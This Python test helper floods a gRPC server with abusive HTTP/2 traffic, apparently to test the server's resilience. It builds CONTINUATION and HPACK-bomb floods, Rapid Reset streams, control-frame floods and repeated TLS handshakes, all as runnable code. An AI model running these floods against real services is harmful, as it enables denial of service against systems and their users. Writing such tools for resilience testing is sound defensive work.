# Floods below gRPC, for their tests: frames of HTTP/2 that no client sends. As a program it sends one:
#
#     floods.py NAME ADDRESS [TLS_DIR|- [COUNT]]
#
# over TLS with the certificate in TLS_DIR, or with none (-), and prints how many bytes it has sent before the
# connection ended. NAME "handshakes" is COUNT connections that end after the handshake.
import itertools
import socket
import ssl
import struct
import sys

SENT_MAX = 400 << 20  # bytes that a flood sends when nothing stops it
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, bits):
    """An integer of HPACK, whose prefix has so many bits."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    out, value = bytes([most]), value - most
    while value > 127:
        out, value = out + bytes([value % 128 + 128]), value // 128
    return out + bytes([value])


def text(value):
    return number(len(value), 7) + value


def field(name, value):
    """A literal header field that is not indexed."""
    return b"\0" + text(name) + text(value)


METHOD = b"/tensorflow.MasterService/ListDevices"
CALL_WITHOUT_AUTHORITY = (
    b"\x83\x86"
    + field(b":path", METHOD)
    + field(b"content-type", b"application/grpc")
    + field(b"te", b"trailers")
)
CALL = CALL_WITHOUT_AUTHORITY[:2] + field(b":authority", b"a") + CALL_WITHOUT_AUTHORITY[2:]


def endless_headers(start, piece):
    yield frame(HEADERS, 0, 1, CALL + start)
    yield from itertools.repeat(piece)


def one_long_string():
    """A header that is announced with 1 GB."""
    start = b"\0" + text(b"a") + number(1 << 30, 7)
    return endless_headers(start, frame(CONTINUATION, 0, 1, b"a" * 16384))


def many_headers():
    one = field(b"a", b"b" * 100)
    return endless_headers(b"", frame(CONTINUATION, 0, 1, one * (16000 // len(one))))


def empty_continuations():
    return endless_headers(b"", frame(CONTINUATION, 0, 1) * 1000)


def hpack_bomb():
    """One field of 3.8 KB in the table, and references to it of a byte each."""
    start = b"\x40" + text(b"a") + text(b"b" * 3800)
    return endless_headers(start, frame(CONTINUATION, 0, 1, b"\xbe" * 16000))


def rapid_resets():
    for first in range(1, 1 << 31, 2000):
        streams = range(first, first + 2000, 2)
        cancel = struct.pack(">I", 8)
        yield b"".join(
            frame(HEADERS, END_HEADERS, s, CALL) + frame(RST_STREAM, 0, s, cancel) for s in streams
        )


def settings():
    return itertools.repeat(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 1000)


def pings():
    return itertools.repeat(frame(PING, 0, 0, b"12345678") * 1000)


def window_updates():
    return itertools.repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x100)) * 1000)


def calls_without_reading():
    """Calls whose answers the client does not read."""
    return calls(CALL)


def wrong_calls_without_reading():
    """gRPC refuses them before the server sees them."""
    return calls(CALL_WITHOUT_AUTHORITY)


def call(headers, stream):
    return frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, b"\0" * 5)


def calls(headers):
    for first in range(1, 1 << 31, 2000):
        yield b"".join(call(headers, s) for s in range(first, first + 2000, 2))


def unknown_frames():
    return itertools.repeat(frame(200, 0, 0, b"a" * 16000))


def connect(address):
    host, port = address.split(":")
    return socket.create_connection((host, int(port)), 60)


def begin(connection):
    """Until the server has, too: with TLS, gRPC ends a connection that sends much before."""
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    connection.recv(len(frame(SETTINGS, 0, 0)))


def frames(connection):
    """The stream of each frame that arrives, and whether it ends an answer."""
    with connection.makefile("rb") as arriving:
        while len(head := arriving.read(9)) == 9:
            arriving.read(int.from_bytes(head[:3], "big"))
            yield int.from_bytes(head[5:], "big"), head[3] == HEADERS and bool(head[4] & END_STREAM)


def first_answer(connection):
    """Its stream."""
    return next(stream for stream, is_answer in frames(connection) if is_answer)


def answers(connection, calls, times):
    """How many of so many correct calls at once, again and again, the server answers."""
    connection.sendall(
        PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))
    )
    sent, count = 0, 0
    for _, is_answer in frames(connection):
        count += is_answer
        if count == calls * times:
            break
        if count == sent:  # first when the server has begun, as in begin()
            connection.sendall(b"".join(call(CALL, 2 * i + 1) for i in range(sent, sent + calls)))
            sent += calls
    return count


FLOODS = (
    one_long_string,
    many_headers,
    empty_continuations,
    hpack_bomb,
    rapid_resets,
    settings,
    pings,
    window_updates,
    unknown_frames,
    calls_without_reading,
    wrong_calls_without_reading,
)


def over_tls(connection, tls_dir):
    """The connection over TLS with the certificate in a directory; "-": with none."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # whoever floods trusts the server
    context.set_alpn_protocols(["h2"])
    if tls_dir != "-":
        context.load_cert_chain(f"{tls_dir}/cert.pem", f"{tls_dir}/key.pem")
    return context.wrap_socket(connection)


def handshake_many(address, tls_dir, count):
    """Handshakes one after the other: each costs the server two signatures."""
    for _ in range(count):
        try:
            over_tls(connect(address), tls_dir).close()
        except OSError:
            pass


def send(name, address, tls_dir=None, count=0):
    sent = 0
    if name == "handshakes":
        handshake_many(address, tls_dir, int(count))
        return sent
    connection = connect(address)
    try:
        if tls_dir:
            connection = over_tls(connection, tls_dir)
        if tls_dir in (None, "", "-"):  # a stranger, who gets no answer
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        else:
            begin(connection)
        for piece in globals()[name]():
            connection.sendall(piece)
            sent += len(piece)
            if sent > SENT_MAX:
                break
    except OSError:
        pass
    connection.close()
    return sent


if __name__ == "__main__":
    print(send(*sys.argv[1:]))
